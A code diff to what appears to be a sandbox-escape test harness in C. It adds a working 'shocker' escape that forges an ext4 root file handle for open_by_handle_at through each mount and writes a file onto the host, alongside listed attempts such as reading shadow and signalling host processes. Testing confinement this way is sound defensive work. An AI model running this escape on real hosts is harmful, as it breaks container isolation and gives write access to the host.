@@ -6,6 +6,10 @@
  * chroot for maintainer scripts was the only wall around them once). TARGETS names what to aim at on the host, KEY=VALUE
  * per line: host_dir, host_secret, tcp_port, abstract_name, daemon_socket, victim_pid,
  * block_device, block_major, block_minor.
+ * open-by-handle: the "shocker" route — open_by_handle_at (CAP_DAC_READ_SEARCH) with the handle
+ * of an ext4 root directory (inode 2, generation 0) through each mount of the sandbox: one of
+ * the host's filesystem (the tree itself, or a file bound in) opens the host's root, and a
+ * file is written into host_dir from there.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -150,6 +154,36 @@ static void write_sysctl(void) {
   report("write-sysctl ESCAPED wrote fs.lease-break-time");
 }
 
+static void open_by_handle(void) {
+  FILE *mi = fopen("/proc/self/mountinfo", "r");
+  if (mi == NULL) return blocked("open-by-handle");
+  char line[4096], point[4096];
+  int saved = ENOENT;
+  while (fgets(line, sizeof line, mi) != NULL) {
+    if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1) continue;
+    int mfd = open(point, O_RDONLY | O_NONBLOCK | O_NOCTTY);
+    if (mfd < 0) continue;
+    struct { struct file_handle fh; unsigned char bytes[8]; } h = {.fh = {.handle_bytes = 8, .handle_type = 1}};
+    unsigned int ino_gen[2] = {2, 0};
+    memcpy(h.fh.f_handle, ino_gen, sizeof ino_gen);
+    int root = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
+    if (root < 0) {
+      saved = errno;
+      close(mfd);
+      continue;
+    }
+    char path[600];
+    snprintf(path, sizeof path, "%s/written-by-handle", target("host_dir") + 1);
+    int fd = openat(root, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (fd >= 0) write(fd, "pwned\n", 6);
+    fclose(mi);
+    return report("open-by-handle ESCAPED opened the root of the filesystem of %s%s", point, fd >= 0 ? " and wrote into host_dir" : "");
+  }
+  fclose(mi);
+  errno = saved;
+  blocked("open-by-handle");
+}
+
 static void capabilities(void) {
   char buf[4096];
   int fd = open("/proc/self/status", O_RDONLY);
@@ -198,7 +232,7 @@ int main(int argc, char **argv) {
   results = open(argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644);
   if (results < 0) return 2;
   void (*attempts[])(void) = {capabilities, chroot_breakout, remount_and_write, make_node, host_block_device, tcp_connect,
-                              daemon_socket, abstract_socket, system_bus, read_shadow, signal_host, write_sysctl};
+                              daemon_socket, abstract_socket, system_bus, read_shadow, signal_host, write_sysctl, open_by_handle};
   for (size_t i = 0; i < sizeof attempts / sizeof attempts[0]; i++) attempt(attempts[i]);
   return 0;
 }
